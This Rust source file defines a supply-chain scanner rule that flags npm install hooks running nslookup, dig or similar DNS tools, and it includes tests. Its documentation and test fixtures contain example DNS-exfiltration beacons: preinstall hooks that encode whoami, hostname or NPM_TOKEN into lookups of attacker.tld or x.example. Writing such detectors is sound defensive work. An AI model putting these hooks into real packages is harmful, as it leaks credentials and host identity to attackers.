//! `install-script-dns`: an install hook performs DNS lookups.

use turncoat_finding::{Finding, Level, RuleDoc, Severity};

use super::{DiffCx, ScanCx, hook_rule_diff, hook_rule_scan};
use crate::facts::ShellFeature;

pub(crate) const RULE: RuleDoc = RuleDoc {
    code: "install-script-dns",
    group: "analyze",
    severity: Severity::Critical,
    default_level: Level::Deny,
    summary: "An install hook runs nslookup/dig/host, especially with names built from variables.",
    doc: r#"Flags `preinstall` / `install` / `postinstall` commands that run `nslookup`, `dig`, `host`, `Resolve-DnsName` or `drill`. Critical when the looked-up name interpolates `$VAR`, `$(…)`, backticks or `%VAR%` (data smuggled out in DNS labels); high otherwise.

In `diff` it fires for new or changed hooks and features no previous hook had; in `scan` for every hook.

**Why it matters.** `nslookup $(whoami).$(hostname).attacker.tld` is the classic dependency-confusion beacon; it leaks through any resolver, past HTTP egress filters.

**Example.** `"preinstall": "nslookup $(echo $NPM_TOKEN | base64).x.example"`.

**How to silence.** A policy exception on `install-script-dns` for the exact `name@version`, or install with scripts disabled."#,
};

const FEATURES: &[ShellFeature] = &[ShellFeature::DnsLookup, ShellFeature::DnsFromData];

fn severity(hits: &std::collections::BTreeSet<ShellFeature>) -> Severity {
    if hits.contains(&ShellFeature::DnsFromData) {
        Severity::Critical
    } else {
        Severity::High
    }
}

pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
    out.extend(hook_rule_diff(cx, &RULE, FEATURES, severity));
}

pub(crate) fn scan(cx: &ScanCx<'_>, out: &mut Vec<Finding>) {
    out.extend(hook_rule_scan(cx, &RULE, FEATURES, severity));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::*;

    #[test]
    fn interpolated_lookup_is_critical() {
        let hook = r#""scripts":{"preinstall":"nslookup $(whoami).$(hostname).x.example"}"#;
        let f = diff_manifest(hook);
        assert_eq!(
            find(&f, RULE.code).map(|f| f.severity),
            Some(Severity::Critical)
        );
    }

    #[test]
    fn plain_lookup_is_high_and_no_lookup_is_quiet() {
        let s = crate::scan(
            &pkg(&[(
                "package.json",
                &manifest("1.0.0", r#""scripts":{"install":"dig example.com"}"#),
            )]),
            "p",
            "1.0.0",
        );
        assert_eq!(
            find(&s, RULE.code).map(|f| f.severity),
            Some(Severity::High)
        );
        let q = crate::scan(
            &pkg(&[(
                "package.json",
                &manifest("1.0.0", r#""scripts":{"install":"node build.js"}"#),
            )]),
            "p",
            "1.0.0",
        );
        assert!(find(&q, RULE.code).is_none());
    }
}
